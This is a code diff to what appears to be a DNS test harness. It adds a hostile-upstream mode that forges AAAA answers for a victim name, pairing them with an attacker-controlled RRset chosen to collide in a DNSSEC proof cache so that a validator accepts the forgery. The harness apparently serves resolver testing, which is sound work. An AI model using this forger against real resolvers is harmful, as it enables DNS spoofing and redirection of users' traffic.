@@ -627,6 +627,32 @@ def forged_nxdomain(query: bytes, victim: str) -> bytes | None:
     return query[:2] + struct.pack("!5H", flags, 1, 0, 1, 1) + query[12:end] + soa + opt
 
 
+class CollidingForger:
+    """A hostile upstream's answers to ``victim``'s AAAA queries, taking turns: first the
+    attacker's own RRset (an address for a name in an insecure zone it controls), then a forged
+    address for ``victim``. The two RRsets are chosen to share one key in hickory 0.26.3's
+    cache of DNSSEC proofs (``cargo run --release --example proof_key_collision``), so a
+    validator that trusts that cache serves the forgery the first RRset's insecure proof. The
+    question is echoed byte for byte (0x20 case included)."""
+
+    def __init__(self, victim: str, rrsets: list[tuple[str, str]]):
+        self.victim, self.rrsets = victim.rstrip(".").lower(), rrsets
+        self.turn, self.lock = 0, threading.Lock()
+
+    def answer(self, query: bytes) -> bytes | None:
+        q = _question(query)
+        if q is None or q[0].lower() != self.victim or q[1] != 28:
+            return None
+        with self.lock:
+            owner, address = self.rrsets[self.turn % len(self.rrsets)]
+            self.turn += 1
+        rdata = socket.inet_pton(socket.AF_INET6, address)
+        record = _name_wire(owner) + struct.pack("!HHIH", 28, 1, 300, len(rdata)) + rdata
+        opt = b"\0" + struct.pack("!HHIH", 41, 1232, 0x8000, 0)  # EDNS0 with DO
+        flags = 0x8000 | (query[2] & 0x01) << 8 | 0x0080  # QR, RD as asked, RA, NOERROR
+        return query[:2] + struct.pack("!5H", flags, 1, 1, 0, 1) + query[12:q[2]] + record + opt
+
+
 def error_answer(query: bytes, rcode: int) -> bytes | None:
     """The query's own id and question with QR, RA and ``rcode`` set, and no records: an
     upstream that will not serve it. None when the question is cut short."""
@@ -644,9 +670,11 @@ def qtype_of(query: bytes) -> int | None:
 
 
 def _serve_relay(listen: str, to: str, delay: float, port: int = 53, forge_nxdomain: str | None = None,
-                 swallow: int | None = None, servfail: int | None = None) -> None:
+                 swallow: int | None = None, servfail: int | None = None,
+                 colliding: CollidingForger | None = None) -> None:
     """UDP and TCP relay that holds every exchange ``delay`` seconds: a distant upstream.
     With ``forge_nxdomain``, a hostile one: that name's A queries get forged_nxdomain().
+    With ``colliding``, a hostile one too: its victim's AAAA queries get its answers.
     With ``swallow`` (a QTYPE), queries of that type are read and never answered; with
     ``servfail`` (a QTYPE), they are answered SERVFAIL at once."""
 
@@ -670,6 +698,7 @@ def _serve_relay(listen: str, to: str, delay: float, port: int = 53, forge_nxdom
                 return
             time.sleep(delay)
             forged = forged_nxdomain(data, forge_nxdomain) if forge_nxdomain else None
+            forged = forged or (colliding.answer(data) if colliding else None)
             if forged:
                 udp.sendto(forged, client)
                 return
@@ -706,6 +735,7 @@ def _serve_relay(listen: str, to: str, delay: float, port: int = 53, forge_nxdom
                         continue
                     time.sleep(delay)
                     forged = forged_nxdomain(msg, forge_nxdomain) if forge_nxdomain else None
+                    forged = forged or (colliding.answer(msg) if colliding else None)
                     if forged:
                         conn.sendall(struct.pack("!H", len(forged)) + forged)
                         continue
@@ -763,12 +793,20 @@ def main(argv: list[str]) -> int:
     s.add_argument("--delay", type=float, default=RELAY_DELAY)
     s.add_argument("--port", type=int, default=53)
     s.add_argument("--forge-nxdomain", metavar="NAME", help="relay mode: answer NAME's A queries with forged_nxdomain()")
+    s.add_argument("--forge-collision", nargs=5, metavar=("VICTIM", "OWNER1", "ADDR1", "OWNER2", "ADDR2"),
+                   help="relay mode: answer VICTIM's AAAA queries with OWNER1 AAAA ADDR1, then OWNER2 AAAA ADDR2, "
+                        "in turn (CollidingForger)")
     s.add_argument("--swallow", metavar="QTYPE", type=int, help="relay mode: never answer queries of this numeric type")
     s.add_argument("--servfail", metavar="QTYPE", type=int, help="relay mode: answer queries of this numeric type SERVFAIL")
     args = ap.parse_args(argv[1:])
     signal.signal(signal.SIGTERM, lambda *_: os._exit(0))
     if args.mode == "relay":
-        _serve_relay(args.listen, args.to, args.delay, args.port, args.forge_nxdomain, args.swallow, args.servfail)
+        colliding = None
+        if args.forge_collision:
+            victim, o1, a1, o2, a2 = args.forge_collision
+            colliding = CollidingForger(victim, [(o1, a1), (o2, a2)])
+        _serve_relay(args.listen, args.to, args.delay, args.port, args.forge_nxdomain, args.swallow, args.servfail,
+                     colliding)
     else:
         _serve_garbage(args.listen)
     return 0
